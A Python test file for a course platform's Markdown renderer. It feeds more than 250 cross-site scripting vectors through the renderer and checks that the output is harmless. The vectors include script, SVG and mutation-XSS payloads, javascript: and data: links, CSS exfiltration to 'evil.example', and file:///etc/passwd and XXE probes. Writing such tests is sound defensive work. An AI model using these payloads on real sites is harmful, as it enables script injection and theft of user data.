"""Known ways to make a page run something, in a lesson, an option, a company fact, a takeaway: none does anything.

What comes out is parsed as a browser would. Vectors by family, after the cheat sheets of OWASP and PortSwigger, the
issues of Markdown renderers, and mutation XSS.
"""

import html as escaping
import re

import pytest

from courses import markdown
from courses.markdown import Fact, Picture, render, render_inline
from tests.courses.test_markdown import Page

pytestmark = pytest.mark.once
HANDLERS = [
    *("onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "ontoggle", "onbegin"),
    *("onstart", "onend", "onrepeat", "onpageshow", "onhashchange", "onresize", "onscroll", "onanimationstart"),
    *("ontransitionend", "onpointerenter", "onwheel", "oncopy", "onpaste", "onbeforeinput", "onsubmit", "onreset"),
    *(
        "onplay",
        "oncanplay",
        "onloadstart",
        "onmessage",
        "oncontextmenu",
        "onauxclick",
        "oncontentvisibilityautostatechange",
    ),
]
TAGS = [
    *("svg", "img src=x", "body", "details open", "video src=x", "audio src=x", "marquee", "input autofocus", "select"),
    *(
        "textarea autofocus",
        "keygen autofocus",
        "iframe",
        "object data=x",
        "embed src=x",
        "math",
        "x",
        "a href=#",
        "style",
    ),
]
ON_ELEMENTS = [f"<{tag} {handler}=alert(1)>" for tag, handler in zip(TAGS * 2, HANDLERS, strict=False)]

ELEMENTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script\x0c>alert(1)</script>",
    "<script\t>alert(1)</script >",
    "</script><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script type=module>import('//evil.example')</script>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=//evil.example></portal>",
    "<fencedframe></fencedframe>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<link rel=preload as=script href=//evil.example onload=alert(1)>",
    "<style>@import '//evil.example';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style></style\n<img src=x onerror=alert(1)>",
    "<p style=\"background:url('//evil.example')\">x</p>",
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    "<div style=position:fixed;inset:0 class=box>x</div>",
    "<base href=//evil.example/>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<meta name=referrer content=unsafe-url>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<title><a title="</title><img src onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)>",
    "<track default src=x oncuechange=alert(1)>",
    "<picture><source srcset=x><img onerror=alert(1)></picture>",
    "<img srcset='x 1x' src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=`alert(1)`>",
    "<image src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<td background=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=&#x6a;avascript:alert(1)>x</a>",
    "<a ping=//evil.example href=#>x</a>",
    "<a target=_blank href=//evil.example>x</a>",
    "<area href=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example></layer>",
    "<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<a name=getElementById id=body>x</a>",
    "<form id=test><input name=action></form>",
    "<slot onslotchange=alert(1)></slot>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
]

LINKS = [
    "[x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](about:blank)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\/\\/evil.example)",
    "[x](https://evil.example)",
    "[x](/%09/evil.example)",
    "[x](/&#x2f;evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://evil.example>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "[y]: data:text/html,x\n\n[y]",
    '[x](lesson:a" onclick="alert(1))',
    "[x](lesson:a'onclick='alert(1))",
    "[x](lesson:../../admin/)",
    '[x](image:a"onerror="alert(1))',
    '[x](# "onclick=alert(1)")',
    "[a](# '\"><img src=x onerror=alert(1)>')",
    "[<img src=x onerror=alert(1)>](#)",
    '[x](/a"onmouseover="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[`<script>`](javascript:alert(1))",
]

PICTURES = [
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png)",
    '![x" onerror="alert(1)](image:known)',
    "![x' onerror='alert(1)](image:known)",
    "![<script>alert(1)</script>](image:known)",
    '![x](image:known "onload=alert(1)")',
    "![x](image:known 'x\" onload=\"alert(1)')",
    "![&quot; onerror=&quot;alert(1)](image:known)",
    '![x](image:known" onerror="alert(1))',
    "![x](image:known&quot;onerror=&quot;alert(1))",
    "![x](image:../../../etc/passwd)",
    '![x](image:known#"><script>)',
    '![x][y]\n\n[y]: image:known "\'><script>alert(1)</script>"',
    '![![x](image:known)" onerror=alert(1)](image:known)',
    "![x](/courses/c/images/00000000000000000000000000000000.webp)",
]

BLOCKS = [
    '::: note" onclick="alert(1)\nx\n:::',
    "::: <script>\nx\n:::",
    "::: weak <img src=x onerror=alert(1)>\nx\n:::",
    '::: diagram "><script>alert(1)</script>\n:::',
    '::: diagram x" data-x="\n:::',
    '::: fact "><img src=x onerror=alert(1)>\n:::',
    "::: fact known\n:::",
    "```<script>\nalert(1)\n```",
    '```" onclick="alert(1)\nx\n```',
    '~~~ "><img src=x onerror=alert(1)>\nx\n~~~',
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "**<svg onload=alert(1)>**",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "ʺ onclick=alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a\u2028href=javascript:alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>{% debug %}{{ settings.SECRET_KEY }}",
    '<figure data-diagram="x"></figure>',
    '<section class="box" role="group" aria-label="x">x</section>',
    "<p>\n<script>\n\nalert(1)\n\n</script>",
    "x <b onmouseover=alert(1)>y</b> z",
    "<div\n\nonclick=alert(1)>",
]

STYLES = [
    "<style>@font-face{font-family:x;src:url(//evil.example)}</style>",
    "<style>a[href^='x']{background:url(//evil.example/?x)}</style>",
    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<style>li{list-style-image:url('javascript:alert(1)')}</style>",
    "<style>@media all{*{behavior:url(x.htc)}}</style>",
    "<p style=width:expression(alert(1))>x</p>",
    "<p style='x:\\65xpression(alert(1))'>x</p>",
    "<p style=background-image:\\75rl(javascript:alert(1))>x</p>",
    '<b style="position:fixed;inset:0;opacity:0;z-index:9999">x</b>',
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "<svg><style>@import'//evil.example'</style></svg>",
    "<p class='button button-primary' id=main tabindex=1>x</p>",
]

MUTATIONS = [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mglyph><style><img title='</style><img src onerror=alert(1)>'>",
    '<svg><title><style><img title="</style></title><img src onerror=alert(1)>">',
    "<svg><desc><noscript><img title='</noscript><img src onerror=alert(1)>'>",
    "<p><svg><foreignObject><p><style><img alt='</style><img src onerror=alert(1)>'>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><svg><desc><td></desc><p title='</svg><img src onerror=alert(1)>'>",
    "<a><svg><path><title><![CDATA[</title><img src=x onerror=alert(1)>]]>",
    "<math><annotation-xml encoding='application/xhtml+xml'><svg onload=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mrow xlink:type=simple xlink:href=javascript:alert(1)>x</mrow></math>",
    "<svg><image href=javascript:alert(1) /></svg>",
    "<svg><feImage href='data:image/svg+xml,<svg onload=alert(1)>' /></svg>",
    "<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>",
    "<svg><animatemotion onend=alert(1) dur=1s>",
    "<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s /></a></svg>",
    "<listing>&lt;img src onerror=alert(1)&gt;</listing>",
    "<noframes><p title='</noframes><img src onerror=alert(1)>'>",
    "<iframe><img title='</iframe><img src onerror=alert(1)>'></iframe>",
    "<x-element is=script>alert(1)</x-element>",
]

OBFUSCATIONS = [
    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](jav&Tab;ascript:alert(1))",
    "[x](&ZeroWidthSpace;javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](javascrıpt:alert(1))",
    "[x](javaſcript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](javascript:/**/alert(1))",
    '[x](javascript:"/*\'/*`/*--></noscript></title></textarea></style></script><img onerror=alert(1) src>")',
    "[x](jar:javascript:alert(1)!/)",
    "[x](mailto:a@b.example?body=<script>)",
    "[x](ms-word:ofe|u|//evil.example)",
    "[x](intent://evil.example#Intent;end)",
    "[x](file:///etc/passwd)",
    "[x](///evil.example)",
    "[x](/\t/evil.example)",
    "[x](/\\\\evil.example)",
    "[x](?next=javascript:alert(1))",
    "[x](./javascript:alert(1))",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:x>",
    "<a@b.example>",
    "<//evil.example>",
    'https://evil.example/"onmouseover=alert(1)',
    "[x]: javascript:alert(1)\n\n[x][]",
    "[X Y]: <data:text/html,x>\n\n[x y]",
    '![x]\n\n[x]: javascript:alert(1) "onerror=alert(1)"',
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "[x](lesson:a&quot;onclick=&quot;alert(1))",
    "[x](lesson:%22onclick%3Dalert(1))",
    "[x](LESSON:a)",
    "[x](lesson:a\u2028b)",
    "[x](#\u00a0onclick=alert(1))",
    "[x](/a\u202eb)",
]

VECTORS = [*ON_ELEMENTS, *ELEMENTS, *LINKS, *PICTURES, *BLOCKS, *STYLES, *MUTATIONS, *OBFUSCATIONS]
KNOWN = {"known": Picture("0" * 32, 10, 10, 'A "known" <b>picture</b>')}
ALLOWED = {"class", *(name for names in markdown.ATTRIBUTES.values() for name in names)}


def test_there_are_enough_of_them():
    assert len(VECTORS) == len(set(VECTORS)) >= 250


def harmless(html):
    page = Page(html)
    for tag, attributes in page.elements:
        assert tag in markdown.TAGS, tag
        assert set(attributes) <= ALLOWED, (tag, attributes)
        for name in ("href", "src"):
            value = attributes.get(name)
            assert value is None or re.fullmatch(r"#[^\s]*|/(?![/\\])[^\s\\]*", value), value
        if tag == "img":
            assert attributes["src"] == f"/courses/c/images/{'0' * 32}.webp"


Page.VOID = {*Page.VOID, "img"}


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: repr(vector)[:40])
def test_it_renders_harmlessly(vector):
    stored = vector.encode("utf-8", "replace").decode()  # no half of a letter is in a database
    facts = {"known": Fact(stored, stored, stored)}
    for text in (vector, f"x {vector} y", f"::: note\n{vector}\n:::", f"> - {vector}", f"**A:** {vector}"):
        harmless(render(text, "c", {}, facts, KNOWN))
        harmless(render_inline(text))
    harmless(render("::: fact known\n:::", "c", {}, facts))
    harmless(render(f"![{vector}](image:known)", "c", images={"known": Picture("0" * 32, 1, 1, stored)}))


@pytest.mark.parametrize("vector", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])
def test_it_is_read_as_the_text_it_is(vector):
    assert escaping.escape(vector, quote=False) in render(vector)
